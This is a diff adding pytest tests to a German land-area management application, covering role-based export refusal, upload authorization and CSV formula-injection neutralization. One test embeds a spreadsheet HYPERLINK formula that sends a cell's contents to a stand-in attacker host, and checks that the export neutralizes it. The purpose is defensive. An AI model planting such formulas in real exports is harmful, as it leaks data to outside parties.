@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import subprocess
@@ -15,6 +16,7 @@ from sqlalchemy import func, select
 from cockpit.db import make_engine, make_session_factory
 from cockpit.domain.errors import AccessDeniedError, ConflictError, ImportRejectedError
 from cockpit.domain.roles import Role
+from cockpit.domain.spreadsheet import neutralize_spreadsheet_text
 from cockpit.domain.vocab import AreaStatus
 from cockpit.models import AreaPotential, AreaVersion, AuditLog, ExportRun
 from cockpit.services import area_exchange, areas
@@ -304,3 +306,84 @@ def test_change_set_and_scope(exported, tmp_path: Path) -> None:
             out_dir=tmp_path / "5",
             municipality_id=g.id,
         )
+
+
+def test_sync_targets_are_for_editors_only(exported, tmp_path: Path) -> None:
+    """Geoportal/KWIS runs are the baseline of the next change set: a read-only export to
+    them is refused (German hint to "Analyse") and writes no ExportRun."""
+    session, _towns, kreis, kommune, _created = exported
+    analyse = make_principal(session, "auswertung", Role.ANALYSE)
+    out = tmp_path / "refused"
+    for principal in (analyse, kommune):
+        for target in area_exchange.SYNC_TARGETS:
+            with pytest.raises(AccessDeniedError) as refused:
+                area_exchange.export_areas(
+                    session, principal, target=target, file_format="csv", out_dir=out
+                )
+            assert "Analyse" in refused.value.user_message
+    assert _count(session, ExportRun) == 0
+    assert not out.exists()  # refused before anything was written
+    result = area_exchange.export_areas(
+        session, analyse, target="analysis", file_format="csv", out_dir=tmp_path
+    )
+    assert result.manifest["anzahl"]["objekte"] == 3
+    kreis_run = area_exchange.export_areas(
+        session, kreis, target="kwis", file_format="csv", out_dir=tmp_path / "kwis"
+    )
+    assert kreis_run.manifest["ziel"] == "kwis"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('=HYPERLINK("https://x.example")', '\'=HYPERLINK("https://x.example")'),
+        ("+49 3581 1234", "'+49 3581 1234"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("Gewerbegebiet Süd", "Gewerbegebiet Süd"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_neutralize_spreadsheet_text(text: str, expected: str) -> None:
+    assert neutralize_spreadsheet_text(text) == expected
+
+
+def test_csv_export_neutralizes_formula_text_but_keeps_numbers(world, tmp_path: Path) -> None:
+    session, towns, kreis, _kommune = world
+    g = towns[GOERLITZ]
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Details")'
+    areas.create_area(
+        session,
+        kreis,
+        area_attrs(g, formula, notes="@Bahnhof", geoportal_id="-17", net_area_ha=2.5),
+        inner_square(g, 200),
+    )
+    result = area_exchange.export_areas(
+        session, kreis, target="kwis", file_format="csv", out_dir=tmp_path
+    )
+    text = result.files[0].read_text(encoding="utf-8-sig")
+    [header, row] = list(csv.reader(text.splitlines(), delimiter=";"))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["name"] == "'" + formula
+    assert cells["bemerkung"] == "'@Bahnhof" and cells["geoport_id"] == "'-17"
+    assert cells["netto_ha"] == "2.5" and float(cells["flaeche_ha"]) == pytest.approx(4.0)
+    assert cells["WKT"].startswith("MULTIPOLYGON")
+
+
+def test_uploads_are_authorized_before_they_are_parsed(world, tmp_path: Path) -> None:
+    session, towns, kreis, kommune = world
+    rows = [(1, "GE Test", "GE", "verfügbar", GOERLITZ, 200, 0)]
+    payload = _geoportal(tmp_path, towns, rows)
+    for data in (payload, b"not a geodata file"):
+        with pytest.raises(AccessDeniedError):
+            area_exchange.read_import_layer(kommune, data, "geoportal.gpkg")
+    with pytest.raises(ImportRejectedError) as bad:
+        area_exchange.read_import_layer(kreis, b"not a geodata file", "liste.txt")
+    assert "liste.txt" in bad.value.user_message
+    layer = area_exchange.read_import_layer(kreis, payload, "geoportal.gpkg")
+    assert layer.feature_count == 1 and "OBJECTID" in layer.fields
+    preview = area_exchange.preview_import(session, kreis, layer, "Geoportal LK", MAPPING)
+    assert preview.counts["new"] == 1
